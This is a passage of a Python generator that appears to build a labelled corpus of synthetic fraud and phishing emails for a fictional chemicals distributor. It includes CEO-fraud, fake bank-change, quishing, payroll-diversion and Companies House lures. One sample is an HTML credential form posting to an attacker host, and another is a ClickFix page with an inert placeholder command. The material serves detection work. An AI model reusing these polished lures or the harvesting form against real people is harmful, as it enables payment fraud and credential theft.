                inner=["from [192.168.1.34] ([%s])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid %s; {DATE}" % (client_ip, h(m_seed, 14, B52))])

def ws(m_seed, n=67):
    g = gmail(m_seed, n)
    return g

def yandex(m_seed, n=81):
    host = "forward%da.mail.yandex.net" % (500 + n % 9)
    return dict(helo=host, rdns=host, ip="178.154.239.%d" % n,
                inner=["from mail-nwsmtp-smtp-production-main-%d.sas.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-%d.sas.yp-c.yandex.net [IPv6:2a02:6b8:c1c:292b:0:640:%s:0])\n\tby %s (Yandex) with ESMTPS id %s\n\tfor <{RCPT}>; {DATE}"
                       % (n % 90, n % 90, h(m_seed, 4), host, h(m_seed + "y", 12, B52))],
                msgid="<%s@mail.yandex.ru>" % h(m_seed + "ym", 18, "0123456789"))

INT = "10.20.0.25"

# ----------------------------------------------------------------- staff & correspondents
STAFF = [
    ("Dr. Klaus Hoffmann", "klaus.hoffmann@example.com", "Mannheim (DE)", "CEO / Geschäftsführer"),
    ("Sabine Wagner", "sabine.wagner@example.com", "Mannheim (DE)", "CFO"),
    ("Jana Becker", "jana.becker@example.com", "Mannheim (DE)", "Accounts payable (Kreditorenbuchhaltung)"),
    ("Thomas Schulz", "thomas.schulz@example.com", "Mannheim (DE)", "Head of HR / payroll"),
    ("Markus Weber", "markus.weber@example.com", "Mannheim (DE)", "Head of IT"),
    ("Lena Krüger", "lena.krueger@example.com", "Mannheim (DE)", "IT service desk"),
    ("Frank Neumann", "frank.neumann@example.com", "Mannheim (DE)", "Head of Sales DACH"),
    ("Dr. Petra Vogel", "petra.vogel@example.com", "Mannheim (DE)", "Regulatory affairs (REACH/CLP, SDS)"),
    ("Andreas Richter", "andreas.richter@example.com", "Mannheim (DE)", "Product manager polymers & additives"),
    ("Monika Schröder", "monika.schroeder@example.com", "Mannheim (DE)", "Logistics / dangerous-goods safety adviser"),
    ("Claudia Fischer", "claudia.fischer@example.com", "Mannheim (DE)", "Office manager HQ, assistant to the CEO"),
    ("Julia Hartmann", "julia.hartmann@examplegroup.eu", "Mannheim (DE)", "QC laboratory manager"),
    ("Giulia Romano", "giulia.romano@example.com", "Milano (IT)", "Country manager Italy"),
    ("Marco Bianchi", "marco.bianchi@example.com", "Milano (IT)", "Accounting Italy"),
    ("Francesca Greco", "francesca.greco@examplegroup.eu", "Milano (IT)", "Product manager cosmetic ingredients"),
    ("Katarzyna Nowak", "katarzyna.nowak@example.com", "Poznań (PL)", "Office manager & HR Poland"),
    ("Piotr Wiśniewski", "piotr.wisniewski@example.com", "Poznań (PL)", "Accounting Poland"),
    ("Agnieszka Kowalczyk", "agnieszka.kowalczyk@example.com", "Poznań (PL)", "Logistics Poland"),
    ("Javier Martínez", "javier.martinez@example.com", "Tarragona (ES)", "Sales manager Spain"),
    ("Lucía Fernández", "lucia.fernandez@example.com", "Tarragona (ES)", "Accounting & office Spain"),
    ("Nikos Papadopoulos", "nikos.papadopoulos@example.com", "Piraeus (GR)", "Country manager Greece"),
    ("Eleni Georgiou", "eleni.georgiou@example.com", "Piraeus (GR)", "Accounting Greece"),
    ("James Whitfield", "james.whitfield@example.com", "Warrington (UK)", "Sales manager UK"),
    ("Emma Clarke", "emma.clarke@examplegroup.eu", "Warrington (UK)", "Office & accounts UK"),
    ("Dmitry Volkov", "dmitry.volkov@example.com", "Moscow (RU)", "General director Russia"),
    ("Olga Smirnova", "olga.smirnova@example.com", "Moscow (RU)", "Chief accountant Russia"),
]
S = {a.split("@")[0].split(".")[0]: (n, a) for n, a, _, _ in STAFF}
S["klaus"] = ("Klaus Hoffmann", "klaus.hoffmann@example.com")
S["petra"] = ("Petra Vogel", "petra.vogel@example.com")

# ----------------------------------------------------------------- body helpers
import html as htmlmod, re as _re

def p2h(plain, font="Calibri", size="11pt", sig=None):
    out = []
    for para in plain.strip().split("\n\n"):
        e = htmlmod.escape(para)
        e = _re.sub(r"(https?://[^\s<]+)", r'<a href="\1">\1</a>', e)
        out.append("<p class=\"MsoNormal\">%s</p>" % e.replace("\n", "<br>\n"))
    return ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=%%s\">"
            "<style>p.MsoNormal{margin:0cm;font-size:%s;font-family:\"%s\",sans-serif}</style></head>"
            "<body lang=\"DE\" link=\"#0563C1\" vlink=\"#954F72\"><div class=\"WordSection1\">\n%s\n</div></body></html>"
            % (size, font, "\n<p class=\"MsoNormal\">&nbsp;</p>\n".join(out)))

def alt(plain, charset="utf-8", cte="quoted-printable", html=None, seed="x", hcte=None):
    hb = html if html is not None else p2h(plain)
    if "%s" in hb and "charset=%s" in hb:
        hb = hb.replace("charset=%s", "charset=" + charset)
    return multi("alternative", [text(plain, "plain", charset, cte), text(hb, "html", charset, hcte or cte)], seed)

def mixed(parts, seed):
    return multi("mixed", parts, seed)

def related(html_part, imgs, seed):
    return multi("related", [html_part] + imgs, seed, '; type="text/html"')

# ----------------------------------------------------------------- national identifiers
def nip_pl(first9):
    w = [6, 5, 7, 2, 3, 4, 5, 6, 7]
    c = sum(int(a) * b for a, b in zip(first9, w)) % 11
    assert c != 10
    return first9 + str(c)

def afm_gr(first8):
    s = sum(int(d) * 2 ** (8 - i) for i, d in enumerate(first8))
    return first8 + str(s % 11 % 10)

def inn_ru(first9):
    w = [2, 4, 10, 3, 5, 9, 4, 6, 8]
    return first9 + str(sum(int(a) * b for a, b in zip(first9, w)) % 11 % 10)

def piva_it(first10):
    s = 0
    for i, d in enumerate(first10):
        d = int(d)
        if i % 2:
            d *= 2
            d = d - 9 if d > 9 else d
        s += d
    return first10 + str((10 - s % 10) % 10)

NIP_EG = nip_pl("778243175")

def ksef_number(nip, ymd, hex12):
    base = "%s-%s-%s" % (nip, ymd, hex12)
    crc = 0
    for b in base.encode():
        crc ^= b
        for _ in range(8):
            crc = ((crc << 1) ^ 0x07) & 0xFF if crc & 0x80 else (crc << 1) & 0xFF
    return "%s-%02X" % (base, crc)
AFM_EG = afm_gr("80123456")
INN_EG = inn_ru("770912345")
PIVA_EG = piva_it("0987654321")

# ----------------------------------------------------------------- bank accounts used in the corpus
ACC = {
    # genuine
    "lief_old": iban_de("50040000", "061234557"),        # Lieferant GmbH, Commerzbank (genuine, old)
    "lief_new": iban_de("50070010", "094512237"),        # Lieferant GmbH, Deutsche Bank (genuine, new)
    "ferr_old": iban_it("03069", "11100", "100000004471"),  # Ferretti, Intesa Sanpaolo (genuine, old)
    "ferr_new": iban_it("05034", "10100", "000000021876"),  # Ferretti, Banco BPM (genuine, new)
    "pl_partner": iban_pl("1050108", "2000009031428871"),   # Partner Logistik, ING Bank Slaski (genuine)
    "ebro": iban_es("2085", "0201", "0330123456"),          # Transportes Ebro, Ibercaja (genuine)
    "northway": iban("GB", "NWBK" + "010712" + "41562290"),    # Northway Tankers (genuine)
    "pennine": iban("GB", "BARC" + "204473" + "53846671"),     # Pennine Customs (genuine)
    "aegean": iban("GR", "017" + "0125" + "0000512040018893"),  # Aegean Tank Lines, Piraeus Bank (genuine)
    "karag_new": iban("GR", "014" + "1020" + "0000102002300451"),   # Karagiannis customs broker, Alpha Bank (genuine new)
    # fraudulent
    "x_lief": iban_de("10090000", "271804455"),          # look-alike Lieferant -> Berliner Volksbank mule
    "x_dgr": iban("SK", "0900" + "000000" + "5187320461"),  # register scam
    "x_payroll_de": iban_de("12030000", "108833261"),    # payroll diversion DKB
    "x_ferr": iban_it("03015", "03200", "000003861927"),  # fake Ferretti -> FinecoBank
    "x_rnosc": iban_it("36772", "22400", "000008815402"),
    "x_partner": iban_pl("1160202", "0000000512734190"),  # fake Partner Logistik -> Millennium
    "x_payroll_pl": iban_pl("1140200", "4000340218337750"),  # payroll diversion mBank
    "x_ceo_es": iban("LT", "32500" + "74018839261"),       # CEO fraud -> LT e-money account
    "x_gr": iban("GR", "026" + "0281" + "0000790200417733"),   # fake Nikos -> Eurobank
}
RU_BIK_SBER = "044525225"
RU_ACC_THL = ru_account(RU_BIK_SBER, "4070281033800012345")        # TransKhimLogistik (genuine)
RU_BIK_X = "044525974"
RU_ACC_X = ru_account(RU_BIK_X, "4070281021000004417")             # CEO-fraud mule
RU_BIK_BROKER = "044525593"
RU_ACC_BROKER = ru_account(RU_BIK_BROKER, "4070281070222000471")   # customs broker (genuine)
BTC_EN = btc_bech32("audit39-extortion-en")
BTC_RU = btc_p2pkh("audit39-extortion-ru")
assert _b58decode_ok(BTC_RU)

# =================================================================== ATTACK: German
HQ_ADDR = "Example Group GmbH · Rheinvorlandstraße 7 · 68159 Mannheim"

f = "01-de-ceo-fraud-project-rheinauen"
M(infra=vps(f, "198.54.127.61", "mta-16.privateemail.com", mailer="Open-Xchange Mailer v7.10.6-Rev71", dom="examplegroup-eu.com"),
  inner=["from APP-11 (unknown [10.50.14.33])\n\tby mta-16.privateemail.com (Postfix) with ESMTPA id 4dM%s\n\tfor <sabine.wagner@example.com>; {DATE}" % h(f, 8, B52)],
  file=f, half="attack", lang="de", cs="ISO-8859-15 / QP", return_path="klaus.hoffmann@examplegroup-eu.com",
  desc="CEO fraud, first contact: 'Klaus Hoffmann' announces a confidential acquisition escrow, a 'lawyer' will send account details",
  why="BEC: look-alike domain examplegroup-eu.com (real: example.com/examplegroup.eu), secrecy request, bypass of the accounting team, reply only to this address",
  frm=("Klaus Hoffmann", "klaus.hoffmann@examplegroup-eu.com"), to=[S["sabine"]],
  subject="Vertraulich - Projekt Rheinauen", date=dt("2026-11-04 16:47:12"), hcs="iso-8859-15",
  body=text("""Hallo Sabine,

bist Du heute noch im Büro erreichbar? Ich bin bis Freitag in Zürich bei den
Gesprächen zum Projekt Rheinauen und kann nur eingeschränkt telefonieren.

Wie Du weißt, sind wir mit der Übernahme des Distributors in der Schweiz
weiter, als wir es im Beirat bisher kommuniziert haben. Die Gegenseite
verlangt bis Donnerstag eine Sicherheitsleistung auf ein Treuhandkonto der
Kanzlei. Dr. Reto Baumann von der Kanzlei wird sich heute noch per E-Mail bei
Dir melden und Dir die Unterlagen und die Kontodaten schicken.

Bitte behandle das Thema streng vertraulich - auch gegenüber dem Team in der
Buchhaltung. Bis zum Signing darf nichts nach außen dringen, das ist
Bedingung der Verkäufer. Antworte mir bitte nur auf diese Adresse, mein
Outlook auf dem Handy synchronisiert gerade nicht.

Danke Dir und viele Grüße
Klaus

--
Dr. Klaus Hoffmann
Geschäftsführer | Example Group GmbH""", "plain", "iso-8859-15", "quoted-printable"))

f = "02-de-supplier-bank-change-lookalike-lieferant"
M(infra=m365(f, "lieferant-gmbh.com", "Änderung unserer Bankverbindung / Rechnungen ab November 2026", n=2113),
  file=f, half="attack", lang="de", cs="UTF-8 / QP, multipart/mixed + PDF",
  desc="Supplier bank-detail change 'from Stefan Maier, Lieferant GmbH' with a letter PDF, asks to pay two open invoices to a new Berliner Volksbank account",
  why="BEC/invoice fraud: sender domain lieferant-gmbh.com is a look-alike of lieferant-gmbh.de (the signature even shows the real address), attacker's own M365 tenant, new IBAN %s at an unrelated bank, pressure via 'old account closed'" % ACC["x_lief"],
  frm=("Stefan Maier", "s.maier@lieferant-gmbh.com"), to=[S["jana"]], cc=[("Buchhaltung Lieferant GmbH", "rechnungen@lieferant-gmbh.com")],
  subject="Änderung unserer Bankverbindung / Rechnungen ab November 2026", date=dt("2026-11-10 10:21:40"),
  body=mixed([alt("""Sehr geehrte Frau Becker,

im Zuge der Zusammenführung unserer Konten im Rahmen der neuen Konzernfinanzierung wird unser bisheriges Geschäftskonto bei der Commerzbank zum 30.11.2026 geschlossen. Bitte nehmen Sie ab sofort alle Zahlungen – auch für bereits offene Rechnungen – ausschließlich auf unsere neue Bankverbindung vor:

Kontoinhaber: Lieferant GmbH
Bank: Berliner Volksbank eG
IBAN: %s
BIC: BEVODEBBXXX

Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang. Zahlungen auf das alte Konto können ab dem 16.11. nicht mehr verbucht werden und werden von der Bank zurückgewiesen, was leider zu Verzögerungen bei den Auslieferungen führen kann.

Aktuell sind bei uns noch die Rechnungen RE-2026-10874 (18.430,20 EUR) und RE-2026-10912 (7.962,55 EUR) offen. Können Sie mir kurz bestätigen, wann die Zahlung auf das neue Konto erfolgt? Dann gebe ich der Disposition Bescheid, dass die Lieferung für KW 47 freigegeben ist.

Mit freundlichen Grüßen

Stefan Maier
Key Account Manager
Lieferant GmbH
Brüningstraße 50 · 65929 Frankfurt am Main
Tel. +49 69 30 58 44 12
s.maier@lieferant-gmbh.de""" % fmt_iban(ACC["x_lief"]), seed=f),
      attach("Lieferant_GmbH_Bankverbindung_2026.pdf", pdf_placeholder("Lieferant GmbH - Mitteilung Bankverbindung (FAKE)", ["IBAN " + fmt_iban(ACC["x_lief"]), "Unterschrift: Geschäftsführung"]), "application/pdf")], f))

f = "03-de-fake-register-offer-invoice"
M(infra=vps(f, "193.42.33.71", "mail.zuv-register.de", mailer=None, dom="zuv-register.de"),
  file=f, half="attack", lang="de", cs="ISO-8859-1 / base64 + PDF",
  desc="'Zentrales Unternehmensverzeichnis' register entry 'offer' styled as an invoice with reference to the real HRB number",
  why="Invoice fraud (address-book/registry scam): no business relationship, small-print 'offer', foreign (SK) IBAN %s, deadline" % ACC["x_dgr"],
  frm=("ZUV Zentrales Unternehmensverzeichnis", "verwaltung@zuv-register.de"), to=[S["claudia"]],
  subject="Eintragung 2027 - Vorgang 2026-118734 - Example Group GmbH (HRB 712345)", date=dt("2026-11-03 07:58:02"), hcs="iso-8859-1",
  body=mixed([text("""Sehr geehrte Damen und Herren,

zur Aktualisierung Ihres Eintrags im Zentralen Unternehmensverzeichnis für
Handel und Industrie (Branche: Großhandel mit chemischen Erzeugnissen,
WZ 46.75) erhalten Sie anbei die Unterlagen für das Geschäftsjahr 2027.

Firma:          Example Group GmbH
Anschrift:      Rheinvorlandstraße 7, 68159 Mannheim
Register:       HRB 712345, Amtsgericht Mannheim
Vorgang:        2026-118734
Betrag:         1.198,00 EUR zzgl. MwSt. (jährlich)

Bitte überweisen Sie den Betrag bis zum 20.11.2026 unter Angabe der
Vorgangsnummer. Mit Zahlungseingang wird Ihr Eintrag für zwölf Monate
veröffentlicht und ist in der Branchensuche auffindbar.

Empfänger:  ZUV Verwaltungs s.r.o.
IBAN:       %s
BIC:        GIBASKBX

Mit freundlichen Grüßen
Ihre Eintragungsverwaltung

Hinweis: Dieses Schreiben ist ein Angebot. Die Eintragung erfolgt nur nach
Zahlungseingang. Das Zentrale Unternehmensverzeichnis ist ein privates
Verzeichnis und steht in keiner Verbindung zum amtlichen Handelsregister.
""" % fmt_iban(ACC["x_dgr"]), "plain", "iso-8859-1", "base64"),
      attach("ZUV_Vorgang_2026-118734.pdf", pdf_placeholder("ZUV - Eintragungsofferte (FAKE)", ["Vorgang 2026-118734", "IBAN " + fmt_iban(ACC["x_dgr"])]), "application/pdf")], f))

QR_DE = "https://vop-firmenkunden-check.de/cbk/fk?id=FK7731-0482"
f = "04-de-qr-bank-verification-of-payee"
_html = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Commerzbank</title></head>
<body style="margin:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif;color:#1c1c1c">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#002e3c;padding:18px 24px;color:#ffd700;font-size:20px;font-weight:bold">Firmenkunden-Service</td></tr>
<tr><td style="padding:24px;font-size:14px;line-height:21px">
<p>Sehr geehrte Firmenkundin, sehr geehrter Firmenkunde,</p>
<p>seit Einführung der <b>Empfängerüberprüfung (Verification of Payee)</b> gleichen Banken vor jeder Überweisung den Namen des Zahlungsempfängers mit dem Kontoinhaber ab. Für Ihr Geschäftskonto sind die hinterlegten Firmendaten noch nicht bestätigt. Eingehende Zahlungen Ihrer Kunden werden dadurch mit dem Hinweis <i>„keine Übereinstimmung“</i> angezeigt und können ab dem <b>1. Dezember 2026</b> verzögert werden.</p>
<p>Bitte bestätigen Sie Ihre Firmendaten in wenigen Schritten mit Ihrem Smartphone. Scannen Sie dazu den folgenden Code mit der Kamera (nicht mit der photoTAN-App):</p>
<p style="text-align:center"><img src="cid:qr-%s" width="210" height="210" alt="Aktivierungsgrafik"></p>
<p>Die Bestätigung dauert etwa zwei Minuten. Halten Sie bitte Ihre photoTAN-App bereit.</p>
<p>Mit freundlichen Grüßen<br>Ihr Firmenkunden-Service</p>
</td></tr>
<tr><td style="padding:12px 24px;font-size:11px;color:#777">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.</td></tr>
</table></td></tr></table></body></html>""" % h(f, 10)
M(infra=sendgrid(f, "fk-servicecenter.de", n=61),
  file=f, half="attack", lang="de", cs="UTF-8 / base64, HTML-only, multipart/related + QR PNG",
  desc="Bank-branded 'Verification of Payee' notice asking the CFO to scan a QR code to 'confirm company data'",
  why="Quishing: decodable QR code carries %s (attacker), brand impersonation of the business bank, sent through an abused bulk-mail account; QR moves the victim to an unmanaged phone" % QR_DE,
  frm=("Commerzbank Firmenkunden", "service@fk-servicecenter.de"), to=[S["sabine"]],
  subject="Empfängerüberprüfung: Bestätigung Ihrer Firmendaten bis 30.11.2026", date=dt("2026-11-17 08:12:55"),
  qr=QR_DE,
  body=related(text(_html, "html", "utf-8", "base64"), [attach("aktivierung.png", qr_png(QR_DE), "image/png", inline=True, cid="qr-" + h(f, 10))], f))

f = "05-de-fake-customs-atlas-html-attachment"
_att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="iso-8859-1"><title>Zoll-Portal - Anmeldung</title>
<style>body{font-family:Arial;background:#eef1f4}.box{width:380px;margin:60px auto;background:#fff;padding:28px;border-top:6px solid #003064}
input{width:100%;padding:8px;margin:6px 0 14px;border:1px solid #999}button{background:#003064;color:#fff;border:0;padding:10px 20px}</style></head>
<body><div class="box"><h2>Zoll-Portal</h2><p>Zur Einsicht in die ausgesetzte Einfuhranmeldung melden Sie sich bitte mit Ihrem Unternehmenskonto an.</p>
<!-- INERT TEST SAMPLE: credential-harvesting form, attacker endpoint below -->
<form method="post" action="https://zoll-nachreichung-atlas.web.app/session/verify">
<label>EORI-Nummer</label><input name="eori" value="DE4471123456789">
<label>Benutzerkennung / E-Mail</label><input name="user" value="monika.schroeder@example.com">
<label>Passwort</label><input name="pass" type="password">
<button type="submit">Anmelden</button></form>
<p style="font-size:11px;color:#666">Generalzolldirektion - Teilnehmerservice ATLAS</p></div></body></html>"""
M(infra=cpanel(f, "dedi3512.your-server.de", "136.243.118.20", "spedition-kessler.de", "102.89.34.17", ua=None),
  file=f, half="attack", lang="de", cs="ISO-8859-1 / QP + HTML attachment",
  desc="'Generalzolldirektion ATLAS' notice: import declaration for UN 1993 goods suspended, log in via attached HTML to upload documents",
  why="Credential phishing with local HTML attachment posting to an attacker host (zoll-nachreichung-atlas.web.app); sent from a compromised genuine haulier mailbox (spedition-kessler.de via a shared-hosting server), customs authority impersonation tailored to dangerous goods",
  frm=("Generalzolldirektion - Teilnehmerservice ATLAS", "dispo@spedition-kessler.de"), to=[S["monika"]],
  subject="ATLAS-Einfuhr 26DE760412558871E4: Überlassung ausgesetzt - Unterlagen nachreichen", date=dt("2026-11-05 11:34:09"), hcs="iso-8859-1",
  body=mixed([text("""Sehr geehrte Damen und Herren,

die Überlassung der Zollanmeldung 26DE760412558871E4 (Anmelder: Example
Group GmbH, EORI DE4471123456789) wurde durch das Hauptzollamt Karlsruhe
ausgesetzt.

Grund: Für die Position 2 (UN 1993, Entzündbarer flüssiger Stoff, n.a.g.,
Klasse 3, VG III; 18 IBC) fehlen das Sicherheitsdatenblatt und die
Ursprungserklärung des Lieferanten.

Bitte reichen Sie die fehlenden Unterlagen innerhalb von 48 Stunden über das
Zoll-Portal nach. Den Zugang zum Vorgang finden Sie im Anhang. Nach Ablauf
der Frist werden Verwahrungskosten am Terminal zu Ihren Lasten berechnet.

Mit freundlichen Grüßen
Teilnehmerservice ATLAS
Generalzolldirektion
""", "plain", "iso-8859-1", "quoted-printable"),
      attach("Zoll_Vorgang_26DE760412558871E4.html", _att.encode("iso-8859-1"), "text/html")], f))

f = "06-de-thread-hijack-compromised-customer"
_q = """Hallo Herr Neumann,

wie am Telefon besprochen, haben wir die Mengenplanung für 2027 überarbeitet
und unsere Anmerkungen zum Rahmenvertrag (Bindemittel, Entschäumer und
Netzmittel) eingetragen. Die Datei ist wegen der Größe über unseren
Datenraum freigegeben:

Rahmenvertrag_2027_Mengenplanung_Brenner.xlsx
https://brenner-lacke.dataroom-share.net/s/Kx7Rm2Q

Der Zugriff ist bis Freitag freigeschaltet. Bitte melden Sie sich mit Ihrer
Firmen-E-Mail an, damit die Freigabe zugeordnet werden kann.

Beste Grüße
Uwe Sommer
Einkauf Rohstoffe
Brenner Lacke GmbH & Co. KG | Heilbronner Str. 211 | 70191 Stuttgart
Tel. +49 711 25 84 3-120

-----Ursprüngliche Nachricht-----
Von: Neumann, Frank <frank.neumann@example.com>
Gesendet: Freitag, 13. November 2026 14:02
An: Sommer, Uwe <u.sommer@brenner-lacke.de>
Betreff: Rahmenvertrag 2027 - Bindemittel und Additive

Hallo Herr Sommer,

anbei wie besprochen unser Entwurf für den Rahmenvertrag 2027. Die Preise
für die Acrylat-Dispersionen sind bis 31.03.2027 fest, danach gilt die
Gleitklausel auf Basis ICIS. Bitte geben Sie mir bis Ende November Ihre
Mengenplanung, damit wir die Kontingente beim Hersteller reservieren können.

Viele Grüße
Frank Neumann
Head of Sales DACH | Example Group GmbH"""
M(infra=m365(f, "brenner-lacke.de", "Rahmenvertrag 2027 - Bindemittel und Additive", n=2044),
  file=f, half="attack", lang="de", cs="UTF-8 / QP, multipart/alternative",
  desc="Reply in a real thread from the customer's genuine (compromised) mailbox with a link to a 'data room' for the 2027 volume planning",
  why="Thread hijacking / AiTM credential lure: genuine sender domain brenner-lacke.de via its real M365 tenant, but the link goes to brenner-lacke.dataroom-share.net and asks for the corporate e-mail login",
  frm=("Sommer, Uwe", "u.sommer@brenner-lacke.de"), to=[("Neumann, Frank", "frank.neumann@example.com")],
  subject="AW: Rahmenvertrag 2027 - Bindemittel und Additive", date=dt("2026-11-18 09:05:31"),
  refs=[("In-Reply-To", "<%s@EXCH01.corp.example.com>" % h("b-thread-frank", 32)), ("References", "<%s@EXCH01.corp.example.com>" % h("b-thread-frank", 32))],
  body=alt(_q, seed=f))

f = "07-de-payroll-diversion-gmx"
M(infra=gmx(f, client_ip="185.220.101.47"),
  file=f, half="attack", lang="de", cs="ISO-8859-15 / 8bit",
  desc="'Andreas Richter' from a private GMX address asks HR to switch his salary account before the November payroll",
  why="Payroll diversion: free-mailer address not known to HR, urgency before payroll run, change of the salary IBAN without the HR self-service/form; sent via a Tor exit (185.220.101.47)",
  frm=("Andreas Richter", "andreas.richter79@gmx.de"), to=[S["thomas"]],
  subject="Neue Bankverbindung für Gehalt", date=dt("2026-11-19 21:16:44"), hcs="iso-8859-15",
  body=text("""Hallo Thomas,

ich habe mein Gehaltskonto gewechselt (bin zur DKB gegangen, die alte Bank
schließt die Filiale bei uns). Kannst Du bitte für die Novemberabrechnung
schon die neue Bankverbindung hinterlegen?

Kontoinhaber: Andreas Richter
IBAN: %s

Ich schreibe von privat, weil ich gerade im Homeoffice ohne VPN bin. Falls
Du noch ein Formular brauchst, schick es mir gerne an diese Adresse, dann
fülle ich es heute Abend noch aus.

Danke Dir und Gruß
Andreas""" % fmt_iban(ACC["x_payroll_de"]), "plain", "iso-8859-15", "8bit"))

f = "08-de-clickfix-xrechnung-html"
_att = """<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>E-Rechnung Viewer</title>
<style>body{font-family:Segoe UI,Arial;background:#f4f5f7}.c{width:440px;margin:80px auto;background:#fff;padding:26px;border:1px solid #ddd}
.cb{border:1px solid #ccc;padding:14px;display:flex;align-items:center}kbd{background:#eee;border:1px solid #bbb;padding:1px 5px}</style></head>
<body><div class="c"><h3>XRechnung 3.0 - Visualisierung</h3>
<p>Das Dokument <b>RE-2026-4471.xml</b> wird geladen ...</p>
<div class="cb"><input type="checkbox"> &nbsp;Ich bin kein Roboter</div>
<p><b>Verifizierung erforderlich:</b></p>
<ol><li>Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Drücken Sie <kbd>Strg</kbd> + <kbd>V</kbd></li><li>Drücken Sie <kbd>Eingabe</kbd></li></ol>
<!-- INERT TEST SAMPLE: real ClickFix pages copy a PowerShell downloader to the clipboard here. -->
<textarea style="display:none" id="c">powershell -w h -c "# INERT TEST PLACEHOLDER - no command" # Verifizierung ID 4471</textarea>
</div></body></html>"""
M(infra=ses(f, n=27),
  file=f, half="attack", lang="de", cs="UTF-8 / QP, multipart/alternative + HTML attachment",
  desc="'E-Rechnung konnte nicht verarbeitet werden' from an invoice portal, attached HTML viewer with fake CAPTCHA (ClickFix: Win+R, Ctrl+V, Enter)",
  why="ClickFix malware delivery: HTML attachment instructs the user to paste a clipboard PowerShell command (inert placeholder here); abuses the German e-invoicing (XRechnung/Peppol) transition and a known supplier's name; sent via Amazon SES from a throwaway domain",
  frm=("E-Rechnungsportal Peppol", "noreply@erechnung-zustelldienst.de"), to=[S["jana"]],
  subject="E-Rechnung RE-2026-4471 (Lieferant GmbH) konnte nicht verarbeitet werden", date=dt("2026-11-24 13:40:18"),
  body=mixed([alt("""Sehr geehrte Damen und Herren,

über das Peppol-Netzwerk ist für Ihr Unternehmen eine elektronische Rechnung im Format XRechnung 3.0 eingegangen, die von Ihrem Empfangssystem nicht automatisch verarbeitet werden konnte (Validierungsfehler BR-DE-15: Leitweg-ID/Buyer reference fehlt).

Rechnungssteller: Lieferant GmbH
Rechnungsnummer: RE-2026-4471
Rechnungsbetrag: 12.906,40 EUR

Die lesbare Darstellung der Rechnung finden Sie im Anhang. Bitte prüfen Sie die Rechnung innerhalb von 5 Werktagen, andernfalls wird sie automatisch an den Rechnungssteller zurückgewiesen.

Ihr E-Rechnungsportal""", seed=f),
      attach("RE-2026-4471_Visualisierung.html", _att.encode("utf-8"), "text/html")], f))

# =================================================================== ATTACK: English
f = "09-en-companies-house-idv-lure"
_t = """EXAMPLE GROUP UK LIMITED (company number 09876543)

Dear Director,

From 18 November 2025, all new and existing directors and persons with significant control (PSC) must verify their identity with Companies House under the Economic Crime and Corporate Transparency Act 2023.

Our records show that the following individuals linked to EXAMPLE GROUP UK LIMITED have not yet verified their identity:

- James WHITFIELD (director)
- Klaus HOFFMANN (director, PSC)

Your next confirmation statement is due on 30 November 2026. If identity verification is not completed before this date, the statement cannot be filed. Failure to comply is an offence and may result in a financial penalty.

Verify identity now:
https://idv.companieshouse-service.uk/verify?c=09876543

You will need a photo ID and access to the company authentication code.

Companies House
Crown Way, Cardiff, CF14 3UZ

This is an automated message. Please do not reply."""
_h = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c;margin:0">
<div style="background:#0b0c0c;padding:12px 20px;color:#fff;font-weight:bold;font-size:20px">GOV.UK</div>
<div style="padding:20px 20px;max-width:580px">
<p style="font-size:19px;font-weight:bold">EXAMPLE GROUP UK LIMITED (company number 09876543)</p>
<p>Dear Director,</p>
<p>From 18 November 2025, all new and existing directors and persons with significant control (PSC) must verify their identity with Companies House under the Economic Crime and Corporate Transparency Act 2023.</p>
<p>Our records show that the following individuals linked to EXAMPLE GROUP UK LIMITED have not yet verified their identity:</p>
<ul><li>James WHITFIELD (director)</li><li>Klaus HOFFMANN (director, PSC)</li></ul>
<p>Your next confirmation statement is due on <b>30 November 2026</b>. If identity verification is not completed before this date, the statement cannot be filed. Failure to comply is an offence and may result in a financial penalty.</p>
<p><a href="https://idv.companieshouse-service.uk/verify?c=09876543" style="background:#00703c;color:#fff;padding:10px 16px;text-decoration:none;display:inline-block">Verify identity now</a></p>
<p>You will need a photo ID and access to the company authentication code.</p>
<p>Companies House<br>Crown Way, Cardiff, CF14 3UZ</p>
<p style="color:#505a5f;font-size:14px">This is an automated message. Please do not reply.</p></div></body></html>"""
M(infra=ses(f, "eu-west-2", n=112),
  file=f, half="attack", lang="en", cs="UTF-8 / QP, multipart/alternative",
  desc="Companies House 'identity verification required' notice for the UK subsidiary's directors with a GOV.UK-styled button",
  why="Credential/ID-document phishing riding on the real ECCTA ID-verification rollout; link to companieshouse-service.uk (not gov.uk), sender domain not gov.uk, penalty threat, sent via Amazon SES",
  frm=("Companies House", "noreply@companieshouse-service.uk"), to=[S["emma"]],
  subject="Action required: identity verification for EXAMPLE GROUP UK LIMITED (09876543)", date=dt("2026-11-02 09:31:07", "GMT"),
  body=alt(_t, html=_h, seed=f))

f = "10-en-callback-renewal-invoice"
M(infra=gmail(f, 41),
  file=f, half="attack", lang="en", cs="UTF-8 / 7bit + PDF",
  desc="'Norton 360 for Business' renewal invoice for GBP 389.99 with a 'billing support' phone number and PDF",
  why="Callback phishing (TOAD): no link, only a phone number (+44 20 7946 0715) in text and PDF, sent from a Gmail account, remote-access/refund scam follows on the call",
  frm=("Billing Support Team", "renewals.billingdesk@gmail.com"), to=[S["james"]],
  subject="Your subscription renewal NB-40981-7724 has been processed", date=dt("2026-11-06 15:22:48", "GMT"),
  body=mixed([text("""Dear Customer,

Thank you for renewing your Norton 360 for Business subscription. Your order
has been processed and the amount will be charged to your account within
24 hours.

Order number:   NB-40981-7724
Product:        Norton 360 for Business - 10 devices, 2 years
Amount:         GBP 389.99
Payment:        Auto-renewal

If you did not authorise this renewal or wish to cancel, please contact our
billing department within 48 hours on +44 20 7946 0715 (Mon-Sat, 8am-8pm).
Refunds cannot be processed after this period.

Your invoice is attached for your records.

Kind regards,
